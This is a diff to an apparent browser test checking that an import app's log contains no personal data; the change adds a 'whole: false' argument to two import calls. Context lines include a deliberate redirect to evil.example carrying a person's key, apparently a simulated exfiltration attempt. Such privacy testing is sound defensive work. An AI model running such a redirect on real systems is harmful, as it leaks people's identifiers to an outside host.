@@ -23,7 +23,7 @@ test('what the app writes to its log names nobody and quotes nothing', async () 
   const queue = await page.evaluate(async () => {
     const doorman = Reflect.get(globalThis, 'doorman')
     const preview = await doorman.chooseImport({ from: 'folder' })
-    await doorman.commitImport({ token: preview.value.token })
+    await doorman.commitImport({ token: preview.value.token, whole: false })
     const list = await doorman.list({ stage: 'invitation', all: true })
     const person = list.value[0].key
     await doorman.detail({ stage: 'invitation', person })
@@ -32,7 +32,7 @@ test('what the app writes to its log names nobody and quotes nothing', async () 
     // Mistakes, which are logged.
     await doorman.detail({ stage: 'invitation', person: 'nobody-quillfeather' })
     await doorman.decide({ stage: 'invitation', verb: 'sing', people: [person] })
-    await doorman.commitImport({ token: person })
+    await doorman.commitImport({ token: person, whole: false })
     location.assign(`https://evil.example/${person}`)
     return list.value
   })
